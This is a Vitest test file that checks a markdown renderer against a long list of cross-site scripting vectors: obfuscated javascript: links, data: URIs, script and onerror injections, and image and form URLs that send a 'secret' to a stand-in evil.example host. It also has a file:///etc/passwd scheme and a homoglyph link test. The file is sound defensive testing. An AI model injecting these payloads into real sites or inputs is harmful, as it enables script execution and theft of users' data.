import { describe, expect, it, vi } from 'vitest';
import { readTags, renderMarkdown } from './render-markdown.ts';

vi.mock('#components/ui/copy-button.tsx', () => ({
  CopyButton: ({ label }: { label: string }) => label,
}));

const ELEMENTS: ReadonlySet<string> = new Set(
  'div p h4 h5 h6 a strong em del code br hr ul ol li input table thead tbody tr th td blockquote pre span figure figcaption'.split(
    ' ',
  ),
);
const ATTRIBUTES: ReadonlySet<string> = new Set(
  'class href target rel referrerpolicy start role aria-label tabindex scope type checked disabled readonly'.split(
    ' ',
  ),
);
const PROTOCOLS: readonly string[] = ['http:', 'https:', 'mailto:'];

const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  '&#106;&#97;&#118;&#97;script:alert(1)',
  'javascript\\:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://example.com/x',
  '//evil.example/x',
  'https://user:pass@evil.example',
];

const VECTORS: readonly string[] = [
  ...SCHEMES.flatMap((scheme) => [
    `[click](${scheme})`,
    `[click](<${scheme}>)`,
    `![pic](${scheme})`,
    `<${scheme}>`,
    `[click][x]\n\n[x]: ${scheme}`,
    `![pic][x]\n\n[x]: <${scheme}>`,
  ]),
  '<script>alert(1)</script>',
  'text <script>alert(1)</script> text',
  '<img src=x onerror=alert(1)>',
  'a <img src="https://evil.example/?q=secret"> b',
  '<svg onload=alert(1)><path/></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input name=x></form>',
  '<object data=x></object><embed src=x>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<details open ontoggle=alert(1)>x</details>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '![x](https://evil.example/?q=secret)',
  '![x][r]\n\n[r]: https://evil.example/?q=secret',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '[a](https://example.com "onmouseover=alert(1) \\" x=")',
  '[a](https://example.com/"onmouseover="alert(1))',
  '![" onerror="alert(1)](https://example.com/x.png)',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '- [x] <img src=x onerror=alert(1)>\n- [ ] [a](javascript:alert(1))',
  '> <iframe srcdoc="<script>alert(1)</script>">',
  '# <img src=x onerror=alert(1)>',
  '[a]: https://example.com/"onclick="alert(1)\n\n[a]',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '[<img src=x onerror=alert(1)>](https://example.com)',
  '[__proto__]: https://example.com\n\n[__proto__] [constructor] [toString]',
  '`<img src=x onerror=alert(1)>`',
  'javascript:alert(1) www.javascript:alert(1) https://example.com/<script>',
];

/** What a page made of hostile text must not have in it; empty when it is sound. */
function findDangers(html: string): string[] {
  const dangers: string[] = [];
  for (const { name, attributes } of readTags(html)) {
    if (!ELEMENTS.has(name)) dangers.push(`<${name}>`);
    for (const [attribute, value] of attributes) {
      if (!ATTRIBUTES.has(attribute)) dangers.push(`${attribute}="${value}"`);
    }
    const href = attributes.get('href');
    if (href !== undefined && !PROTOCOLS.includes(new URL(href).protocol)) dangers.push(href);
  }
  return dangers;
}

describe('hostile text', () => {
  it.each(VECTORS)('does no harm, whole or at any prefix: %j', (text) => {
    for (let end = 1; end <= text.length; end += 1) {
      expect(findDangers(renderMarkdown(text.slice(0, end), true))).toEqual([]);
    }
    expect(findDangers(renderMarkdown(text))).toEqual([]);
  });

  it.each(SCHEMES)('makes no link to %j', (scheme) => {
    expect(renderMarkdown(`[click](<${scheme}>) ![pic](<${scheme}>)`)).not.toContain('<a ');
  });

  it('keeps bidi and zero-width characters out of what a link says', () => {
    const html = renderMarkdown(
      '[pay\u200bpal\u202e.com\u2066](https://evil.example) ![a\u202eb](https://evil.example/x)',
    );
    expect(html).not.toMatch(/[\u200b\u202e\u2066]/);
    expect(html).toContain('paypal.com<span class="text-muted"> (evil.example)</span>');
  });

  it('is seen by the test when it is not harmless', () => {
    expect(
      findDangers('<p><img src="x" onerror="y"/><a href="javascript:x" style="z">a</a></p>'),
    ).toEqual(['<img>', 'src="x"', 'onerror="y"', 'style="z"', 'javascript:x']);
  });
});
